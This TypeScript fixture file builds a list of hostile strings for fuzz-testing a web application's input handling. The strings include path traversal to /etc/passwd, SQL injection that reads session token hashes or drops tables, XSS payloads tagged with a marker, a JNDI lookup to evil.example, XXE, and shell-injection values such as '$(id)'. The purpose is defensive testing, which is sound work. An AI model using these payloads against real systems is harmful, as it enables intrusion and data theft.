// About a thousand strings that have broken software before (docs/faults.md 50): odd Unicode, encodings within encodings, and the
// languages of databases, pages, templates, shells and headers. Markup among them carries MARKER, so that it is found if it
// comes back unescaped.

/** Never to be seen in HTML: it would be an element. */
export const MARKER = '<zly-znacznik';

const CONTROL = [
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\t',
  '\r\n',
  '\n\n',
  '\u2028',
  '\u2029',
];

const UNICODE = [
  '\ud800',
  '\udc00',
  'a\udfffb',
  '\ud83d\ud83d',
  '\ufffe\uffff',
  '\ufeff',
  '\u200b\u200c\u200d',
  '\u202e\u0627\u0644\u0639',
  '\u2066abc\u2069',
  '\u00a0\u2003',
  'Z\u0351\u036b\u0343\u0334a\u0334l\u0321\u0330g\u030fo',
  'ą'.normalize('NFD'),
  'İıſK',
  'ﬃ①½Ⅷ',
  '𝕬𝖑𝖆',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '🇵🇱'.repeat(20),
  'ا'.repeat(40),
  'Ａｄｍｉｎ',
  'аdmin',
];

const NUMBERS = [
  '0',
  '-0',
  '-1',
  '1e309',
  '9007199254740993',
  '0x1F',
  'NaN',
  'Infinity',
  '00',
  '1_000',
  '١٢٣',
];

const NAMES = [
  'null',
  'undefined',
  'true',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '[object Object]',
];

const PATHS = [
  '%00',
  '%',
  '%zz',
  '%ff%fe',
  '%c0%ae%c0%ae/',
  '..%2f..%2fetc%2fpasswd',
  '..%252f',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/./.././',
  '//evil.example',
  '/\\evil.example',
  'https:evil.example',
  'http://[::1',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'JaVaScRiPt&colon;alert(1)',
  'data:text/html,x',
  '@evil.example',
  '?#&=;',
  '.data',
  '_.data',
  'a.css',
  '%2e%2e%3b/',
  ';jsessionid=1',
];

const DATABASE = [
  "' OR '1'='1",
  "'; DROP TABLE profiles;--",
  '" OR ""="',
  "1' UNION SELECT token_hash FROM sessions--",
  "') ON CONFLICT DO NOTHING;--",
  "x' || (SELECT email FROM profiles) || 'x",
  '%_%',
  '\\',
  "''''''",
  '`id`',
  '/*',
  'CHAR(0)',
  '?1 $1 :a @a',
];

const PAGE = [
  `${MARKER}>`,
  `"><script>alert(1)</script>${MARKER}>`,
  `'>${MARKER} onload=alert(1)>`,
  `</script>${MARKER}>`,
  `</title>${MARKER}>`,
  `--!>${MARKER}>`,
  `<![CDATA[${MARKER}>]]>`,
  `<svg/onload=alert(1)>${MARKER}/>`,
  `<img src=x onerror=alert(1)>${MARKER} />`,
  `<style>@import"x"</style>${MARKER}>`,
  `<iframe srcdoc="${MARKER}>">`,
  `" autofocus onfocus=alert(1) x="${MARKER}>`,
  `&lt;${MARKER}>`,
  `\\u003c${MARKER}>`,
  `<\u0000script>${MARKER}>`,
  `<math><mtext><table><mglyph><style>${MARKER}>`,
  `[x](javascript:alert(1))${MARKER}>`,
  `](${MARKER}>)`,
];

const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return 1")()}}',
  '%s%s%n%d',
  '$(id)',
  '| id',
  '; sleep 5',
  '&& id',
  '{"$gt":""}',
  '["a"]',
  '{"__proto__":{"isAdmin":true}}',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '*)(uid=*))(|(uid=*',
];

const HEADERS = [
  'a\r\nSet-Cookie: zly=1',
  'a%0d%0aSet-Cookie:%20zly=1',
  'a\nLocation: https://evil.example',
  'a\u560d\u560aSet-Cookie:zly=1',
  'x; Path=/; Domain=evil.example',
  '=;=;=',
  'session=x; session=y',
];

const LONG = [
  'a'.repeat(2_000),
  'ż'.repeat(3_000),
  ' '.repeat(5_000),
  '🦔'.repeat(1_500),
  `${'a@'.repeat(900)}b.pl`,
];

const REGEXES = ['(a+)+$', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '[', '\\1', '^', '.*', '(?<a>x)\\k<a>'];

const PLAIN = [
  '',
  ' ',
  ...CONTROL,
  ...UNICODE,
  ...NUMBERS,
  ...NAMES,
  ...PATHS,
  ...DATABASE,
  ...PAGE,
  ...TEMPLATES,
  ...HEADERS,
  ...LONG,
  ...REGEXES,
];

const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => `ala${text}`,
  (text) => `${text}@example.pl`,
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => `"${text}'`,
  (text) => `\u200b${text}\u0000`,
  (text) => `{"a":[${JSON.stringify(text)}]}`,
  (text) => text.toUpperCase().replaceAll('ZLY-ZNACZNIK', 'zly-znacznik'),
];

/** All of them, always the same. */
export function hostileStrings(): string[] {
  return [...new Set(DISGUISES.flatMap((disguise) => PLAIN.map(disguise)))];
}

/** Some of every kind: each `step`-th of the undisguised. */
export function hostileSample(step: number): string[] {
  return PLAIN.filter((_, index) => index % step === 0);
}
